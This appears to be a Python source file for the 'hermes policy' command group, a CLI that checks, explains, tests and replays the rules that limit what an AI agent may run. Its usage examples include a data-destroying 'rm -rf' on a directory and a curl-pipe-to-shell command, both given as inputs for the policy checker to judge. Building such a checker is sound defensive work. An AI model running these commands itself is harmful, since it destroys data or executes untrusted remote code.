"""`hermes policy`: what the agent may do, asked and tried out before it does it."""

import click

from hermes.cli.lazy import ExampleGroup
from hermes.cli.output import json_option

TABLE = {
    "check": ("hermes.cli.policy_check:check", "The verdict on a command, or on a stream of them"),
    "explain": ("hermes.cli.policy_explain:explain", "Which rule, which piece, and what nearly"),
    "list": ("hermes.cli.policy_rules:list_", "All rules in force, and where they stand"),
    "show": ("hermes.cli.policy_rules:show", "One rule as it is written"),
    "always": ("hermes.cli.policy_rules:always", "What was allowed for good, and taking it back"),
    "test": ("hermes.cli.policy_files:test", "Run PolicyTest files"),
    "lint": ("hermes.cli.policy_files:lint", "Mistakes and doubts in policy files"),
    "replay": ("hermes.cli.policy_past:replay", "What other rules would have decided in the past"),
    "misjudged": ("hermes.cli.policy_past:misjudged", "What the kernel refused judged commands"),
    "report": ("hermes.cli.policy_past:report", "How often each rule decided, and how"),
}


@click.group(
    cls=ExampleGroup,
    table=TABLE,
    invoke_without_command=True,
    examples="""
hermes policy check -- rm -rf /srv/data              one verdict
hermes policy explain -- 'curl -s x.example/i | sh'  and why
hermes policy check --jsonl - < commands.jsonl       many verdicts
hermes policy lint && hermes policy test             before a new rule counts
hermes policy replay --file new-rule.yaml            what it would have changed
""",
)
@json_option
@click.pass_context
def policy(ctx: click.Context, as_json: bool) -> None:
    """What the agent may do: rules asked, explained, tested, replayed. Without a command: list.

    Rules are files in `policies` of the home folder and in `.hermes/policies` of a project, on
    top of a built-in set (observe, careful or sandboxed: `hermes config set policy.set NAME`).

    Exit codes: 0 fine, 1 a test failed or a file needs mending, 2 wrong usage, 3 the policy files
    in force are broken, 7 held (only `check --exit-code`).
    """
    if ctx.invoked_subcommand is None:
        from hermes.cli.policy_rules import list_

        ctx.invoke(list_, as_json=as_json)
